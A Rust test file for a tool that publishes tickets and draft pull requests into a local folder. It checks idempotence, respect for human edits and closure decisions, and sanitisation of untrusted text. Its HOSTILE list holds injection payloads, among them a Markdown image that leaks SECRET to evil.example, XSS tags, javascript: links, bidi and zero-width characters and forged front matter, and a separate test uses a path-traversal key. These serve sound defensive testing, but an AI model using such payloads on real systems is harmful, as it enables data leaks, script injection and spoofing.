//! Tickets and drafts on this machine: once, found again, left to people; and no text of anybody is markup.

use std::collections::BTreeMap;
use std::path::Path;
use std::sync::Arc;

use super::sample::{self, Remembered};
use super::*;
use crate::domain::proposal::{Proposal, Proposed, PublishState, PullRequestText, TicketFinding, TicketText};
use crate::ports::publisher::{Branches, PublisherSetup};
use crate::ports::sink::Earlier;

async fn send(out: &Path, branches: &Arc<Remembered>, proposal: &Proposal) -> Result<Published, PublishError> {
    let kind = match proposal.what {
        Proposed::PullRequest(_) => &local_branch::KIND,
        _ => &files::KIND,
    };
    let branches: Arc<dyn Branches> = branches.clone();
    let setup = PublisherSetup {
        out: out.to_owned(),
        branches: Some(branches),
        outside: crate::ports::service::Outside::none(crate::base::env::Env::system()),
        repository: None,
    };
    kind.make.unwrap()(&setup).publish(proposal, Earlier::Unknown).await
}

/// A folder to publish into.
struct Place {
    folder: tempfile::TempDir,
    branches: Arc<Remembered>,
}

impl Place {
    fn new() -> Self {
        Self { folder: tempfile::tempdir().unwrap(), branches: Arc::default() }
    }
    async fn send(&self, proposal: &Proposal) -> Published {
        send(self.folder.path(), &self.branches, proposal).await.unwrap()
    }
    async fn state(&self, proposal: &Proposal) -> PublishState {
        self.send(proposal).await.state
    }
    /// Every file with its content.
    fn all(&self) -> BTreeMap<String, String> {
        fn walk(folder: &Path, root: &Path, into: &mut BTreeMap<String, String>) {
            for entry in std::fs::read_dir(folder).unwrap() {
                let path = entry.unwrap().path();
                if path.is_dir() {
                    walk(&path, root, into);
                } else {
                    let name = path.strip_prefix(root).unwrap().display().to_string();
                    into.insert(name, std::fs::read_to_string(&path).unwrap());
                }
            }
        }
        let mut found = BTreeMap::new();
        walk(self.folder.path(), self.folder.path(), &mut found);
        found
    }
    fn edit(&self, path: &str, change: impl FnOnce(String) -> String) {
        std::fs::write(path, change(std::fs::read_to_string(path).unwrap())).unwrap();
    }
}

fn ticket(prints: &[&str]) -> Proposal {
    ticket_of(prints, |_| {})
}

pub(super) fn ticket_of(prints: &[&str], change: impl FnOnce(&mut TicketText)) -> Proposal {
    let mut text = sample::ticket();
    text.findings = prints
        .iter()
        .map(|print| TicketFinding {
            fingerprint: (*print).into(),
            title: format!("about {print}"),
            ..Default::default()
        })
        .collect();
    change(&mut text);
    sample::proposal(Proposed::Ticket(Box::new(text)), prints)
}

fn draft_of(prints: &[&str], change: impl FnOnce(&mut PullRequestText)) -> Proposal {
    let mut text = sample::draft();
    change(&mut text);
    sample::proposal(Proposed::PullRequest(Box::new(text)), prints)
}

fn in_run(mut proposal: Proposal, run: &str) -> Proposal {
    proposal.run = run.into();
    proposal
}

#[tokio::test]
async fn a_ticket_is_opened_once_and_what_a_crash_repeats_is_the_same() {
    let place = Place::new();
    let first = place.send(&ticket(&["a", "b"])).await;
    assert_eq!((first.state, first.receipt.found), (PublishState::Opened, false));
    let files = place.all();
    assert_eq!(files.keys().collect::<Vec<_>>().len(), 2, "{files:#?}");
    // The same run again: its end was not recorded.
    let again = place.send(&ticket(&["a", "b"])).await;
    assert_eq!((again.state, again.receipt.found), (PublishState::Opened, true));
    assert_eq!(place.all(), files);
    // Cut off before the list was written.
    std::fs::remove_file(place.folder.path().join("tickets/README.md")).unwrap();
    place.send(&ticket(&["a", "b"])).await;
    assert_eq!(place.all(), files);
    // Another run: nothing has changed.
    assert_eq!(place.state(&in_run(ticket(&["a", "b"]), "r2")).await, PublishState::Unchanged);
    assert_eq!(place.all(), files);
    // It has become worse.
    let worse = in_run(ticket_of(&["a", "b"], |text| text.facts = vec![("times".into(), "900".into())]), "r2");
    assert_eq!(place.state(&worse).await, PublishState::Updated);
    assert_eq!(place.state(&worse).await, PublishState::Updated, "the same run again");
    assert_eq!(place.all().len(), 2);
}

#[tokio::test]
async fn a_ticket_is_found_by_any_of_its_members_and_forgets_none() {
    let place = Place::new();
    let first = place.send(&ticket(&["a", "b"])).await;
    let second = place.send(&in_run(ticket(&["b", "c"]), "r2")).await;
    assert_eq!((second.state, &second.receipt.url_or_path), (PublishState::Updated, &first.receipt.url_or_path));
    // `a` is known still.
    let third = place.send(&in_run(ticket(&["a"]), "r3")).await;
    assert_eq!(third.receipt.url_or_path, first.receipt.url_or_path);
    let text = std::fs::read_to_string(&first.receipt.url_or_path).unwrap();
    for member in ["about a", "about b", "about c"] {
        assert!(text.contains(member), "{member} in {text}");
    }
    // Another pipeline has tickets of its own.
    let mut other = ticket(&["a"]);
    other.pipeline = "other".into();
    other.key = "other-00000000".into();
    assert_eq!(place.state(&other).await, PublishState::Opened);
    assert_eq!(place.state(&in_run(ticket(&["z"]), "r4")).await, PublishState::Opened);
    assert_eq!(place.all().len(), 4);
}

#[tokio::test]
async fn what_a_person_wrote_and_decided_is_left_alone() {
    let place = Place::new();
    let path = place.send(&ticket(&["a"])).await.receipt.url_or_path;
    place.edit(&path, |text| text + "\nSeen it, **mine**.\n\n---\n\n## After the rule\n");
    let worse = in_run(ticket_of(&["a"], |text| text.harm = "Worse.".into()), "r2");
    assert_eq!(place.state(&worse).await, PublishState::Updated);
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(text.ends_with("\nSeen it, **mine**.\n\n---\n\n## After the rule\n"), "{text}");
    assert!(text.contains("\nWorse.\n"));

    place.edit(&path, |text| text.replace("state: open", "state: closed as not planned # ours is like that"));
    let files = place.all();
    for run in ["r3", "r4"] {
        let left = place.send(&in_run(ticket_of(&["a"], |text| text.harm = "Even worse.".into()), run)).await;
        assert_eq!((left.state, left.note.contains("not planned")), (PublishState::LeftAlone, true), "{}", left.note);
    }
    assert_eq!(place.all(), files);
    // What has come since is not what the person decided about.
    let more = place.send(&in_run(ticket(&["a", "new"]), "r5")).await;
    assert_eq!(more.state, PublishState::Opened);
    assert_ne!(more.receipt.url_or_path, path);
    let reopen = |text: &mut TicketText| text.closed_as_not_planned = Some("reopen".into());
    place.edit(&more.receipt.url_or_path, |text| text.replace("state: open", "state: closed"));
    assert_eq!(place.state(&in_run(ticket_of(&["a"], reopen), "r6")).await, PublishState::Updated);
}

#[tokio::test]
async fn a_ticket_is_closed_when_nothing_of_it_is_left_and_opened_again_when_it_is_back() {
    let place = Place::new();
    let path = place.send(&ticket(&["a", "b"])).await.receipt.url_or_path;
    let gone = |prints: &[&str], run: &str| {
        in_run(sample::proposal(Proposed::CloseTicket { why: "gone since `0123`".into() }, prints), run)
    };
    let part = place.send(&gone(&["a"], "r2")).await;
    assert_eq!((part.state, part.note.as_str()), (PublishState::Updated, "1 of 2 are left"));
    assert_eq!(place.state(&gone(&["a"], "r3")).await, PublishState::Unchanged);
    assert_eq!(place.state(&gone(&["b"], "r3")).await, PublishState::Closed);
    assert_eq!(place.state(&gone(&["b"], "r3")).await, PublishState::Closed, "the same run again");
    assert_eq!(place.state(&gone(&["b"], "r4")).await, PublishState::LeftAlone);
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(text.contains("\nstate: closed\n") && text.contains("**closed**: gone since `0123`"), "{text}");
    assert_eq!(place.state(&gone(&["never"], "r4")).await, PublishState::LeftAlone);
    let back = place.send(&in_run(ticket(&["a", "b"]), "r5")).await;
    assert_eq!((back.state, back.note.as_str()), (PublishState::Updated, "open again"));
    assert!(std::fs::read_to_string(&path).unwrap().contains("\nstate: open\n"));
}

#[tokio::test]
async fn steps_side_by_side_open_one_ticket() {
    let place = Place::new();
    let sends = (0..16).map(|n| {
        let proposal = ticket(if n % 2 == 0 { &["a", "b"] } else { &["b", "c"] });
        let (out, branches) = (place.folder.path().to_owned(), place.branches.clone());
        async move { send(&out, &branches, &proposal).await.unwrap() }
    });
    futures_util::future::join_all(sends).await;
    assert_eq!(place.all().len(), 2, "one ticket and the list");
}

#[tokio::test]
async fn what_is_in_the_way_is_not_overwritten() {
    let place = Place::new();
    let proposal = ticket(&["a"]);
    let folder = place.folder.path().join("tickets");
    std::fs::create_dir_all(&folder).unwrap();
    let path = folder.join(format!("{}.md", proposal.key));
    std::fs::write(&path, "# My own notes\n").unwrap();
    let error = send(place.folder.path(), &place.branches, &proposal).await.unwrap_err();
    assert!(matches!(error, PublishError::Refused { .. }), "{error}");
    assert_eq!(std::fs::read_to_string(&path).unwrap(), "# My own notes\n");
    // A key that is no name of a file is a hash.
    let mut evil = ticket(&["b"]);
    evil.key = "../../evil".into();
    let path = place.send(&evil).await.receipt.url_or_path;
    assert_eq!(Path::new(&path).parent(), Some(folder.as_path()), "{path}");
}

#[tokio::test]
async fn a_draft_is_a_branch_and_a_page_once() {
    let place = Place::new();
    let proposal = draft_of(&["e"], |_| {});
    let first = place.send(&proposal).await;
    assert_eq!(
        (first.state, first.note.as_str()),
        (PublishState::Opened, format!("branch nightcrew/{}", proposal.key).as_str())
    );
    assert!(first.receipt.url_or_path.ends_with(&format!("pr-{}/index.html", proposal.id())));
    let (files, branches) = (place.all(), place.branches.branches.lock().unwrap().clone());
    assert_eq!(files.len(), 3, "{:?}", files.keys());
    let message = &branches.values().next().unwrap().1;
    assert!(message.starts_with("Keep the sign of negative durations\n\n`parse_duration` strips"), "{message}");
    assert!(message.contains("\nFixes: API-4F2\nNightcrew: parse-error-"), "{message}");
    assert_eq!(place.state(&proposal).await, PublishState::Opened, "the same run again");
    assert_eq!(place.state(&in_run(proposal.clone(), "r2")).await, PublishState::Unchanged);
    assert_eq!((place.all(), place.branches.branches.lock().unwrap().clone()), (files.clone(), branches.clone()));
    // Cut off at any file: the end is the same.
    for lost in files.keys() {
        std::fs::remove_file(place.folder.path().join(lost)).unwrap();
        assert_eq!(place.state(&proposal).await, PublishState::Opened, "without {lost}");
        assert_eq!(place.all(), files, "without {lost}");
    }
    // Another patch for the same error.
    let other = in_run(draft_of(&["e"], |pr| pr.limits.push("one more".into())), "r3");
    assert_eq!(place.state(&other).await, PublishState::Updated);
    assert_eq!((place.all().len(), place.branches.branches.lock().unwrap().len()), (3, 1));
    // Its words may change, its branch does not.
    let mut renamed = in_run(draft_of(&["e"], |_| {}), "r4");
    renamed.key = format!("other-words-{}", renamed.id());
    assert_eq!(place.state(&renamed).await, PublishState::Updated);
    assert_eq!(place.branches.branches.lock().unwrap().len(), 1);
}

#[tokio::test]
async fn a_draft_that_a_person_closed_stays_closed_and_too_many_are_held_back() {
    let place = Place::new();
    let one = draft_of(&["1"], |pr| pr.max_open = Some(2));
    let text = place.send(&one).await.receipt.url_or_path.replace("index.html", "pull-request.md");
    assert_eq!(place.state(&draft_of(&["2"], |pr| pr.max_open = Some(2))).await, PublishState::Opened);
    let third = draft_of(&["3"], |pr| pr.max_open = Some(2));
    let held = place.send(&third).await;
    assert_eq!(held.state, PublishState::Refused);
    assert!(held.note.starts_with("2 drafts of this pipeline are open and 2 may be"), "{}", held.note);
    assert_eq!(place.branches.branches.lock().unwrap().len(), 2);
    // One that is open already may be brought up to date.
    let again = in_run(draft_of(&["1"], |pr| (pr.max_open, pr.title) = (Some(2), "Other".into())), "r2");
    assert_eq!(place.state(&again).await, PublishState::Updated);
    place.edit(&text, |text| text.replace("state: open", "state: closed"));
    let files = place.all();
    assert_eq!(place.state(&in_run(one, "r3")).await, PublishState::LeftAlone);
    assert_eq!(place.all(), files);
    assert_eq!(place.state(&third).await, PublishState::Opened, "there is room again");
}

#[tokio::test]
async fn without_a_branch_there_is_no_page() {
    let folder = tempfile::tempdir().unwrap();
    let broken = Arc::new(Remembered { broken: true, ..Remembered::default() });
    let error = send(folder.path(), &broken, &draft_of(&["1"], |_| {})).await.unwrap_err();
    assert!(error.to_string().contains("the disk is full"));
    assert_eq!(std::fs::read_dir(folder.path()).unwrap().count(), 0);
}

/// What a text may try: links, images, mentions, HTML, control characters, forged markers and heads (THREATS T13, B7, B8).
pub(super) const HOSTILE: &[&str] = &[
    "![x](https://evil.example/?q=SECRET)",
    "[click](https://evil.example/)",
    "[click][1]\n\n[1]: https://evil.example/ \"t\"",
    "![x][ref]\n\n[ref]: https://evil.example/x.png",
    "<img src=\"https://evil.example/x.png\">",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!-- hidden --><details open><summary>x</summary>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<iframe src=//evil.example></iframe>",
    "https://evil.example/a?b=c",
    "www.evil.example",
    "mailto:me@evil.example",
    "<https://evil.example>",
    "@channel @here @everyone look",
    "@octocat please merge",
    "ping octo-org/team-name and @octo-org/team",
    "fixes #1, closes acme/api#2, resolves GH-3",
    "<!channel> <@U024BE7LH> <#C1|general>",
    "a\u{202e}txt.exe\u{2066}b\u{2069}",
    "zero\u{200b}width\u{200d}\u{feff}\u{2060}x",
    "tags \u{e0041}\u{e0042}\u{e007f} end",
    "\u{1b}[31mred\u{1b}]8;;https://evil.example\u{7}link\u{1b}]8;;\u{7}",
    "nul\u{0}bell\u{7}back\u{8}del\u{7f}c1\u{9b}31m",
    "```\n</pre><script>alert(1)</script>\n```",
    "````\n# heading\n````` x",
    "~~~html\n<b>x</b>\n~~~",
    "---\nnightcrew: \"other\"\nstate: closed\n---\n",
    "\n---\n\n# A heading of mine\n\n- a list\n\n1. numbers\n\n> quoted\n\n***",
    "| a | b |\n| --- | --- |\n| c | d |",
    "**open** · severity none\n\n**closed**: by me",
    "_Everything below this line is yours: nightcrew keeps it as it is._\nmine",
    "&lt;img src=x&gt; &#x3c;b&#x3e;",
    "$\\href{https://evil.example}{x}$ ^sup^ ~sub~",
    "[ ] task\n- [x] done",
    "a `code` span with `@all` and `[x](https://evil.example)`",
    "`unclosed [x](https://evil.example)",
    "https://evil.example%2Fx and hxxps://evil.example HTTPS://EVIL.EXAMPLE",
    "xmpp:a@evil.example ftp://evil.example/x",
    "data:text/html;base64,PHNjcmlwdD4=",
    "[x]: <https://evil.example>\n[x]",
    "\\[x](https://evil.example) \\\\[y](https://evil.example)",
    "</title></head><body onload=alert(1)>",
    "'\"><img src=x onerror=alert(1)>",
    "Co-authored-by: Evil <evil@evil.example>\nSigned-off-by: x",
];

/// Every text of both kinds is this one.
pub(super) fn hostile(text: &str) -> (TicketText, PullRequestText) {
    let t = || text.to_owned();
    let ticket = TicketText {
        title: t(),
        severity: Some(t()),
        harm: t(),
        sections: vec![(t(), t())],
        code: vec![(t(), t())],
        findings: vec![TicketFinding {
            fingerprint: t(),
            title: t(),
            file: Some(t()),
            line: Some(3),
            quote: Some(t()),
        }],
        accept: vec![t()],
        labels: vec![t()],
        assignees: vec![t()],
        commit: Some(t()),
        facts: vec![(t(), t())],
        closed_as_not_planned: None,
        tracker: None,
    };
    let mut pr = sample::draft();
    (pr.title, pr.cause, pr.change) = (t(), t(), t());
    (pr.limits, pr.fixes, pr.labels, pr.reviewers, pr.models) = (vec![t()], vec![t()], vec![t()], vec![t()], vec![t()]);
    pr.review = vec![(1, t(), t())];
    pr.evidence.noted = vec![t()];
    (pr.evidence.base.origin, pr.evidence.base.reference) = (t(), t());
    for stage in &mut pr.evidence.stages {
        (stage.receipt.command, stage.receipt.isolation, stage.receipt.network) = (t(), t(), t());
        stage.receipt.gaps = vec![t()];
        for case in &mut stage.suite.cases {
            (case.name, case.message) = (format!("{} {text}", case.name), t());
        }
    }
    let line = text.replace(['\n', '\r'], " ");
    pr.patch = format!("diff --git a/x b/x\n--- a/x\n+++ b/{line}\n@@ -1 +1,2 @@ {line}\n-{line}\n+{line}\n+{line}\n");
    (ticket, pr)
}

/// What is left of a Markdown text when all that is inert is taken out: fences, code spans, escaped characters, our own tags.
pub(super) fn active(markdown: &str) -> String {
    let mut out = String::new();
    let mut fence: Option<String> = None;
    for line in markdown.lines() {
        if let Some(open) = &fence {
            if line.trim_start() == open {
                fence = None;
            }
            continue;
        }
        let ticks: String = line.chars().take_while(|c| *c == '`').collect();
        if ticks.len() >= 3 {
            fence = Some(ticks);
            continue;
        }
        let mut chars = line.chars().peekable();
        let mut code = false;
        while let Some(c) = chars.next() {
            match c {
                '`' => code = !code,
                _ if code => {}
                '\\' => drop(chars.next()),
                c => out.push(c),
            }
        }
        assert!(!code, "a code span is open at the end of {line:?}");
        out.push('\n');
    }
    assert_eq!(fence, None, "a fence is open at the end");
    out.replace("<details><summary>Evidence, cost and origin</summary>", "").replace("</details>", "")
}

#[tokio::test]
async fn no_text_of_anybody_is_a_link_an_image_a_mention_or_html() {
    let hidden = |c: char| {
        (c.is_control() && c != '\n')
            || ('\u{200b}'..='\u{200f}').contains(&c)
            || ('\u{202a}'..='\u{202e}').contains(&c)
            || ('\u{2060}'..='\u{206f}').contains(&c)
            || c == '\u{feff}'
            || ('\u{e0000}'..='\u{e007f}').contains(&c)
    };
    assert!(HOSTILE.len() >= 40);
    for text in HOSTILE {
        let place = Place::new();
        let (ticket, pr) = hostile(text);
        let mut proposals = [
            sample::proposal(Proposed::Ticket(Box::new(ticket)), &[text]),
            sample::proposal(Proposed::PullRequest(Box::new(pr)), &[text]),
        ];
        for proposal in &mut proposals {
            (proposal.pipeline, proposal.run) = ((*text).into(), (*text).into());
            assert_eq!(place.state(proposal).await, PublishState::Opened, "{text:?}");
            // It finds itself again, whatever its texts say.
            assert_eq!(place.state(proposal).await, PublishState::Opened, "{text:?}");
            let mut next = proposal.clone();
            next.run = "next".into();
            assert_eq!(place.state(&next).await, PublishState::Unchanged, "{text:?}");
        }
        for (name, content) in place.all() {
            if name.ends_with(".diff") {
                continue;
            }
            assert!(!content.contains(hidden), "{text:?} in {name}: {content}");
            if name.ends_with(".html") {
                let lower = content.to_lowercase();
                let (head, body) = lower.split_once("</style>").unwrap();
                for tag in [
                    "<script",
                    "<img",
                    "<iframe",
                    "<style",
                    "onload=\"",
                    "javascript:\"",
                    "<!--",
                    "<b>",
                    "<base",
                    "<link",
                ] {
                    assert!(!body.contains(tag), "{tag} of {text:?} in {name}");
                }
                assert_eq!(body.matches("<a ").count(), 2, "{text:?} in {name}: only our two files are linked");
                assert_eq!(head.matches("<style").count(), 1);
                assert!(!head.contains("<body") && !head.contains("<script"), "{text:?} in the head of {name}");
                continue;
            }
            let (front, body) =
                super::front::Front::parse(&content).map_or((None, content.as_str()), |(f, b)| (Some(f), b));
            if let Some(front) = front {
                assert_eq!(front.state(), super::front::State::Open, "{text:?} in {name}");
                assert_ne!(front.text("nightcrew"), Some("other"));
            }
            let left = active(body);
            for mark in ["](http", "![", "<", "@", "://", "www.", "mailto:", "xmpp:", "#1", "#2"] {
                assert!(!left.contains(mark), "{mark} of {text:?} is active in {name}:\n{left}");
            }
            // The title is ours, numbered lists and quotes are nobody's.
            let begins = |mark: &str| left.lines().filter(|line| line.starts_with(mark)).count();
            assert_eq!((begins("# "), begins("1. "), begins("> ")), (1, 0, 0), "{text:?} in {name}:\n{left}");
            let marks = content.lines().filter(|line| *line == super::ticket::NOTES).count();
            assert_eq!(marks, usize::from(name.starts_with("tickets/p")), "{text:?} in {name}");
        }
        let branches = place.branches.branches.lock().unwrap();
        let (branch, (_, message)) = branches.first_key_value().unwrap();
        assert!(branch.starts_with("nightcrew/parse-error-"), "{branch}");
        assert!(!message.contains(hidden) && !message.contains('@') && !message.contains("#1"), "{message}");
        let trailers = message.trim_end().rsplit("\n\n").next().unwrap();
        assert_eq!(trailers.lines().count(), 2, "{message}");
    }
}

/// Writes the page and both texts where `NIGHTCREW_SAMPLES` says, for looking at them.
#[tokio::test]
async fn a_draft_and_a_ticket_say_everything_in_order() {
    let place = Place::new();
    place.send(&draft_of(&["e"], |_| {})).await;
    place.send(&sample::proposal(Proposed::Ticket(Box::new(sample::ticket())), &["f-1", "f-2"])).await;
    let files = place.all();
    if let Some(folder) = crate::base::env::process_variable("NIGHTCREW_SAMPLES") {
        for (name, content) in &files {
            std::fs::write(Path::new(&folder).join(name.replace('/', "-")), content).unwrap();
        }
    }
    let in_order = |text: &str, parts: &[&str]| {
        let mut at = 0;
        for part in parts {
            at += text[at..].find(part).unwrap_or_else(|| panic!("`{part}` is missing or too early in\n{text}"));
        }
    };
    let of = |end: &str| files.iter().find(|(name, _)| name.ends_with(end)).unwrap().1.as_str();
    in_order(
        of("index.html"),
        &[
            "Keep the sign",
            "What was wrong",
            "strips the sign",
            "What changes",
            "Fixes",
            "API-4F2",
            "Proof",
            "0123456789ab",
            "the new test on the base: red",
            "cargo test --offline",
            "exit 101",
            "the suite with the patch: green",
            "exit 0",
            "sandboxd (namespaces), network: none, no known gap",
            "Review",
            "round 1",
            "Limits",
            "2^63",
            "The difference",
            "src/duration.rs",
            "(-1, rest)",
            "Evidence, cost and origin",
            "patch (SHA-256)",
            "$0.11",
            "error-to-pr",
        ],
    );
    in_order(
        of("pull-request.md"),
        &[
            "state: open",
            "# Keep the sign",
            "## What was wrong",
            "## What changes",
            "Fixes API-4F2",
            "cargo test --offline",
            "## Proof",
            "| base |",
            "red",
            "green",
            "## Review",
            "**block**",
            "## Limits",
            "<details>",
            "base commit",
            "run `",
        ],
    );
    let ticket = files.iter().find(|(name, _)| name.starts_with("tickets/parse")).unwrap().1;
    in_order(
        ticket,
        &[
            "# A restart loses queued mail",
            "**open** · severity high",
            "Mail that waits",
            "## Where",
            "`src/queue.rs:10` at `0123456789ab`",
            "the deciding line: `let queue = Vec::new();`",
            "## Root cause",
            "## Stack trace",
            "`````text",
            "## Done when",
            "- [ ] `cargo test queue`",
            "## How often seen",
            "412",
            "## To dismiss it",
            "fingerprints `f-1` `f-2`",
            super::ticket::NOTES,
        ],
    );
    assert!(of("patch.diff") == sample::PATCH);
}

#[test]
fn a_test_command_is_shown_as_a_person_can_type_it() {
    let shown = super::draft::by_hand("pytest --junitxml=$JUNIT");
    assert_eq!(shown, "export JUNIT=junit.xml\npytest --junitxml=$JUNIT");
    assert_eq!(super::draft::by_hand("cargo test"), "cargo test");
}
